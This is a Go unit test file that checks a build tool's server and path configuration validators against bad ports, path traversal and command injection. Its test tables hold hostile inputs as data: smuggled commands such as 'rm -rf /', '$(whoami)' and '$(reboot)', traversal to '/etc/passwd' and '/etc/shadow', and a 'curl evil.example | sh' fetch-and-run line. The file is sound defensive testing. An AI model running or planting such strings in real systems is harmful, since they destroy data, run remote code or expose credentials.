package config

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestValidateServerConfig_Security tests server configuration security validation
func TestValidateServerConfig_Security(t *testing.T) {
	tests := []struct {
		name        string
		config      ServerConfig
		expectError bool
		errorType   string
	}{
		{
			name:   "valid server config",
			config: ServerConfig{Port: 8080, Host: "localhost"},
		},
		{
			name:   "valid port range maximum",
			config: ServerConfig{Port: 65535, Host: "0.0.0.0"},
		},
		{
			name:   "system assigned port",
			config: ServerConfig{Port: 0, Host: "localhost"},
		},
		{
			name:        "invalid negative port",
			config:      ServerConfig{Port: -1, Host: "localhost"},
			expectError: true,
			errorType:   "not in valid range",
		},
		{
			name:        "invalid port too high",
			config:      ServerConfig{Port: 65536, Host: "localhost"},
			expectError: true,
			errorType:   "not in valid range",
		},
		{
			name:        "command injection in host",
			config:      ServerConfig{Port: 8080, Host: "localhost; rm -rf /"},
			expectError: true,
			errorType:   "dangerous character",
		},
		{
			name:        "subshell in host",
			config:      ServerConfig{Port: 8080, Host: "$(whoami)"},
			expectError: true,
			errorType:   "dangerous character",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := validateServerConfig(&tt.config)
			if tt.expectError {
				assert.Error(t, err)
				assert.Contains(t, err.Error(), tt.errorType)
			} else {
				assert.NoError(t, err)
			}
		})
	}
}

func TestValidatePath_Security(t *testing.T) {
	tests := []struct {
		path      string
		errorType string
	}{
		{"app/css", ""},
		{"./dist", ""},
		{"", "empty path"},
		{"../outside", "traversal"},
		{"app/../../etc", "traversal"},
		{"/etc/passwd", "relative to the project root"},
		{"dist;rm -rf", "dangerous character"},
		{"dist`id`", "dangerous character"},
		{"dist|cat", "dangerous character"},
	}

	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			err := validatePath(tt.path)
			if tt.errorType == "" {
				assert.NoError(t, err)
				return
			}
			if assert.Error(t, err) {
				assert.Contains(t, err.Error(), tt.errorType)
			}
		})
	}
}

func TestValidatePathsConfig_OutputIsolation(t *testing.T) {
	base := PathsConfig{
		Source: "app", StylesEntry: "app/css/index.css", ScriptsEntry: "app/js/app.js",
		Fonts: "app/fonts", Images: "app/img", Libs: "app/libs", Parts: "app/parts",
		NodeModules: "node_modules", VendorDir: "dist/node_modules", CacheDir: ".frontbuild/cache",
	}

	testCases := []struct{ source, output string }{
		{"app", "."},
		{"app", "app"},
		{"app", "./app/"},
		{"app", "app/dist"},
		{"site/app", "site"},
		{"./site/app", "site/"},
	}
	for _, tc := range testCases {
		t.Run(tc.source+"->"+tc.output, func(t *testing.T) {
			paths := base
			paths.Source = tc.source
			paths.Output = tc.output
			err := validatePathsConfig(&paths)
			var verr *ValidationError
			if assert.ErrorAs(t, err, &verr) {
				assert.Equal(t, "paths.output", verr.Field)
				assert.NotEmpty(t, verr.Suggestions)
			}
		})
	}

	for _, output := range []string{"dist", "apps", "build/app"} {
		paths := base
		paths.Output = output
		assert.NoError(t, validatePathsConfig(&paths), output)
	}
}

func TestSecurityRegression_ConfigSecurity(t *testing.T) {
	attacks := []string{
		"../../../../etc/shadow",
		"dist && curl evil.example | sh",
		"dist$(reboot)",
		"dist>out",
	}

	for _, attack := range attacks {
		paths := PathsConfig{
			Source: "app", Output: attack, StylesEntry: "a", ScriptsEntry: "a", Fonts: "a",
			Images: "a", Libs: "a", Parts: "a", NodeModules: "a", VendorDir: "a", CacheDir: "a",
		}
		err := validatePathsConfig(&paths)
		assert.Error(t, err, "attack %q must be rejected", attack)
		assert.True(t, strings.Contains(err.Error(), "output"), err.Error())
	}
}
